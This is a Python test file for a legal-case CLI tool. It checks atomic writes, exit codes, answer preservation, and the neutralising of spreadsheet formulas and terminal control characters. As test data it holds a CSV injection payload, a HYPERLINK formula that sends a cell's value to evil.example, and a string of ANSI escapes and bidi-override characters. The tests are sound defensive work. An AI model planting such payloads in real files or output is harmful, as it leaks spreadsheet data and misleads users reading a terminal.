"""Failing disks and hostile text on the way out (issue 16): files written whole or not at all,
answers of `ask` never lost, one-line errors with documented exit codes (2: a bad output path,
1: the writing failed), CSV cells no spreadsheet reads as formulas, and nothing in a case file
acting on the terminal."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import EXAMPLES, ROOT

from reasoner.cli import main

MEMO_EXAMPLE = EXAMPLES / "286-1-leak.yaml"  # a case the memo renders (format 2's assisted parties aside)
ASK_EXAMPLE = "287-2-card-seller-incomplete.yaml"


def _cli(*args: str, stdout=subprocess.PIPE, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "reasoner.cli", *args],
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        timeout=timeout,
    )


# --- report -o: whole or not at all, one-line errors ------------------------------------------------


def test_report_into_a_missing_folder_is_exit_2_before_the_memo(tmp_path):
    out = CliRunner().invoke(main, ["report", str(MEMO_EXAMPLE), "-o", str(tmp_path / "no" / "m.md"), "--lang", "en"])
    assert out.exit_code == 2
    assert (
        out.output.strip()
        == f"{tmp_path / 'no' / 'm.md'}: cannot write the file: the folder {tmp_path / 'no'} does not exist"
    )


def test_report_onto_a_folder_is_exit_2(tmp_path):
    out = CliRunner().invoke(main, ["report", str(MEMO_EXAMPLE), "-o", str(tmp_path), "--lang", "en"])
    assert out.exit_code == 2 and "is a directory" in out.output and "Traceback" not in out.output


def test_a_target_that_is_a_folder_is_a_bad_path():
    from reasoner.case.files import WriteProblem, write_atomic

    with pytest.raises(WriteProblem) as e:
        write_atomic(ROOT / "tests", b"x")
    assert e.value.exit_code == 2 and str(e.value).endswith("cannot write the file: it is a folder")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_report_onto_a_full_device_is_exit_1_in_one_line():
    done = _cli("report", str(MEMO_EXAMPLE), "-o", "/dev/full", "--lang", "en")
    assert done.returncode == 1
    assert done.stderr.strip() == "/dev/full: cannot write the file: No space left on device"


def test_report_that_fails_midway_leaves_the_old_file_whole(tmp_path, monkeypatch):
    import reasoner.case.files as files

    target = tmp_path / "memo.md"
    target.write_text("the memo of yesterday\n", encoding="utf-8")

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    out = CliRunner().invoke(main, ["report", str(MEMO_EXAMPLE), "-o", str(target), "--lang", "en"])
    assert out.exit_code == 1 and "No space left on device" in out.output
    assert target.read_text(encoding="utf-8") == "the memo of yesterday\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["memo.md"]  # no temporary file left


def test_report_replaces_a_file_keeping_its_mode(tmp_path):
    target = tmp_path / "memo.md"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    out = CliRunner().invoke(main, ["report", str(MEMO_EXAMPLE), "-o", str(target), "--lang", "en"])
    assert out.exit_code == 0, out.output
    assert target.read_text(encoding="utf-8").startswith("#") and (target.stat().st_mode & 0o777) == 0o640


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder")
def test_report_into_a_read_only_folder_is_exit_2(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        out = CliRunner().invoke(main, ["report", str(MEMO_EXAMPLE), "-o", str(folder / "m.md"), "--lang", "en"])
    finally:
        folder.chmod(0o755)
    assert out.exit_code == 2 and "Permission denied" in out.output


# --- the standard output on a full device: one line, exit 1 ------------------------------------------


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize(
    "args",
    [
        ["check", "examples/287-2-card-seller.yaml"],
        ["rules"],
        ["schema"],
        ["why-not", "examples/287-2-card-seller.yaml", "cl.287-2"],
        ["what-if", "examples/287-2-card-seller.yaml", "--set", 'acts[0].payment_settlement="900000"'],
        ["what-it-takes", "examples/287-2-card-seller-incomplete.yaml", "cl.287-2"],
    ],
    ids=lambda a: a[0],
)
def test_a_full_standard_output_is_one_line_and_exit_1(args):
    lang = [] if args[0] == "schema" else ["--lang", "en"]  # schema speaks no language: Chinese errors
    with open("/dev/full", "w") as full:
        done = _cli(*args, *lang, stdout=full)
    if not lang:
        assert done.returncode == 1 and done.stderr.strip() == "无法写入标准输出：No space left on device"
        return
    assert done.returncode == 1, done.stderr
    assert done.stderr.strip() == "cannot write to the standard output: No space left on device"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_the_standard_output_error_is_in_chinese_by_default():
    with open("/dev/full", "w") as full:
        done = _cli("rules", stdout=full)
    assert done.returncode == 1 and done.stderr.strip() == "无法写入标准输出：No space left on device"


# --- ask: answers never lost ---------------------------------------------------------------------------


def _ask_case(tmp_path: Path) -> Path:
    target = tmp_path / "c.yaml"
    shutil.copy(EXAMPLES / ASK_EXAMPLE, target)
    return target


def _answers(text: str) -> Path:
    """The file ask named as keeping the answers."""
    line = next(x for x in text.splitlines() if "are kept in" in x)
    return Path(line.split("are kept in ", 1)[1].split(" (", 1)[0])


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_ask_keeps_the_answers_when_the_output_cannot_be_written(tmp_path):
    target = _ask_case(tmp_path)
    before = target.read_bytes()
    out = CliRunner().invoke(main, ["ask", str(target), "--output", "/dev/full", "--lang", "en"], input="true\n")
    assert out.exit_code == 1, out.output
    assert "/dev/full: cannot write the file: No space left on device" in out.output
    kept = _answers(out.output)
    try:
        assert kept.read_text(encoding="utf-8").splitlines()[0].endswith("=true")
        completed = next(x for x in out.output.splitlines() if "completed case file is kept in" in x)
        case = Path(completed.rsplit(" ", 1)[1])
        assert b"confirmable: true" in case.read_bytes()
    finally:
        kept.unlink(missing_ok=True)
    assert target.read_bytes() == before


def test_ask_keeps_the_answers_when_the_case_file_is_gone_meanwhile(tmp_path, monkeypatch):
    from reasoner.commands import open_facts

    target = _ask_case(tmp_path)
    run = open_facts._Interview.run

    def run_then_delete(self):
        run(self)
        target.unlink()

    monkeypatch.setattr(open_facts._Interview, "run", run_then_delete)
    out = CliRunner().invoke(main, ["ask", str(target), "--lang", "en"], input="true\n")
    assert out.exit_code == 1 and "Traceback" not in out.output
    kept = _answers(out.output)
    try:
        assert kept.read_text(encoding="utf-8").strip().endswith("=true")
    finally:
        kept.unlink(missing_ok=True)


def test_ask_to_a_missing_folder_is_refused_before_any_question(tmp_path):
    target = _ask_case(tmp_path)
    out = CliRunner().invoke(
        main, ["ask", str(target), "--output", str(tmp_path / "no" / "c.yaml"), "--lang", "en"], input="true\n"
    )
    assert out.exit_code == 2 and "does not exist" in out.output and "question" not in out.output


def test_ask_writes_the_file_whole_or_not_at_all(tmp_path, monkeypatch):
    import reasoner.case.files as files

    target = _ask_case(tmp_path)
    before = target.read_bytes()

    fsync = os.fsync

    def full(fd):  # the disk of the case file is full; the temporary folder is not
        if os.readlink(f"/proc/self/fd/{fd}").startswith(str(tmp_path)):
            raise OSError(28, "No space left on device")
        fsync(fd)

    monkeypatch.setattr(files.os, "fsync", full)
    out = CliRunner().invoke(main, ["ask", str(target), "--lang", "en"], input="true\n")
    assert out.exit_code == 1
    assert target.read_bytes() == before  # never cut short
    assert "are kept in" in out.output


# --- CSV cells no spreadsheet reads as formulas -----------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_a_formula_are_neutralised(start):
    from reasoner.render.cells import neutralise

    assert neutralise(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
    assert neutralise("A1") == "A1" and neutralise("诈骗") == "诈骗"


def test_a_case_id_that_is_a_formula_is_neutralised_in_the_batch_csv(tmp_path):
    import csv
    import io

    import yaml

    data = yaml.safe_load((EXAMPLES / "287-2-card-seller.yaml").read_text("utf-8"))
    data = json.loads(json.dumps(data, default=str))
    data["case"]["id"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps(data, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "rows.csv"
    done = CliRunner().invoke(main, ["batch", str(src), "-o", str(out), "--jobs", "1", "--lang", "en"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline="")))
    case = rows[1][rows[0].index("case")]
    assert case == "'" + data["case"]["id"]


# --- nothing in a case file acts on the terminal --------------------------------------------------------


HOSTILE = "李某\x1b[2K\r\x1b[32m✔ holds\x1b[0m [red]x[/red] \u202eevil\x9b"


def test_control_characters_and_markup_in_names_print_literally(tmp_path):
    import yaml

    data = yaml.safe_load((EXAMPLES / "287-2-card-seller.yaml").read_text("utf-8"))
    data = json.loads(json.dumps(data, default=str))
    data["parties"][0]["name"] = HOSTILE
    data["acts"][0]["description"] = HOSTILE
    data["case"]["title"] = HOSTILE
    p = tmp_path / "c.json"
    p.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    out = CliRunner().invoke(main, ["check", str(p), "--all", "--lang", "en", "--width", "400"])
    assert out.exit_code == 0, out.output
    assert "\x1b" not in out.output and "\r" not in out.output and "\u202e" not in out.output
    assert "\x9b" not in out.output
    assert "\\x1b[2K\\r" in out.output and "[red]x[/red]" in out.output and "\\u202eevil" in out.output


def test_control_characters_in_an_error_print_as_escapes(tmp_path):
    p = tmp_path / "c\x1b[2K.yaml"
    p.write_text("case: {id: x}\nparties: !foo x\n", encoding="utf-8")
    out = CliRunner().invoke(main, ["check", str(p), "--lang", "en"])
    assert out.exit_code == 2 and "\x1b" not in out.output and "c\\x1b[2K.yaml" in out.output


def test_what_if_lines_show_control_characters_as_escapes(tmp_path):
    from reasoner.render.cells import visible

    assert visible("a\x1b[1mb\rc\u200bd\ne\tf") == "a\\x1b[1mb\\rc\\u200bd\ne\tf"
